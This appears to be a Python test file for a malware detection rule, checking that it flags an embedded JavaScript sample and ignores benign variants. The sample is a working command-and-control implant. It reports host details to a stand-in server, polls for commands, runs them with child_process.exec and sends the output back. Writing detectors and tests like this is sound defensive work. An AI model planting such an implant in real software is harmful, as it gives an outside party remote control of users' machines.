from lazaretto.detect.rules.javascript.token_poll import RULE

IMPLANT = """\
const os = require("os");
async function register() {
  const r = await axios.post("https://c2.example.test/register", { h: os.hostname(), p: os.platform() });
  return r.data.token;
}
let token;
setInterval(async () => {
  token = token || (await register());
  const r = await axios.post("https://c2.example.test/task", { token });
  require("child_process").exec(r.data.cmd, (e, out) => axios.post("https://c2.example.test/out", { token, out }));
}, 5000);
"""


def test_register_token_poll_run(look):
    assert look(RULE, IMPLANT) == [
        (10, "CRITICAL", "HIGH", "sends facts about this machine, polls, and child_process.exec runs what is answered")
    ]


def test_telemetry_is_no_implant(look):
    telemetry = IMPLANT.replace('require("child_process").exec(r.data.cmd, ', "log(r.data.cmd, ")
    assert look(RULE, telemetry) == []
    once = IMPLANT.replace("setInterval(", "run(")
    assert look(RULE, once) == []
